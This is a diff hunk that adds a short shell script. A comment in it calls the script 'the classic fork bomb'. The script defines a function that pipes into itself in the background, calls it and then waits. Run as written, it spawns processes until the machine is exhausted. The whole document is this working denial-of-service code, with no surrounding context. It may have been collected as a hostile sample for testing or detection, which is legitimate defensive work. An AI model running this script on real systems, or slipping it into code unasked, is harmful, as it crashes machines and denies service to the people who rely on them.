@@ -1,0 +1,5 @@
+#!/bin/sh
+# Hostile: the classic fork bomb.
+b() { b | b & }
+b
+wait
